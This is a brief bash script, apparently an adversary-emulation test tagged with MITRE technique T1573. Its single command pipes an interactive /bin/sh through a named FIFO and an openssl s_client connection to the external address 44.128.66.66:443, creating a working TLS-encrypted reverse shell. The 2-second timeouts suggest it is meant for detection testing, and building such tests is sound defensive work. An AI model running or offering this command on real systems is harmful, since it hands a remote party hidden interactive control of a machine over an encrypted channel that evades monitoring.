#!/bin/bash
# T1573: A shell talks through a client of TLS.
mkfifo /tmp/s; timeout 2 /bin/sh -i </tmp/s 2>&1 | timeout 2 openssl s_client -quiet -connect 44.128.66.66:443 >/tmp/s
